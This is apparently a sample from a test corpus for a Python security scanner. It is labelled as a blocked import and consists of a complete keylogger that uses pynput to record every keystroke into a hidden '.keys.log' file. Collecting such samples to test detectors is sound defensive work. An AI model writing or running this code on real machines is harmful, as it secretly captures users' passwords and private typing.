# pyguard-corpus: verdict=block category=import rules=PG101
# what: records every key pressed on the machine with pynput and appends it to a hidden file
from pynput import keyboard


def on_press(key):
    with open(".keys.log", "a", encoding="utf-8") as log:
        log.write(f"{key}\n")


with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
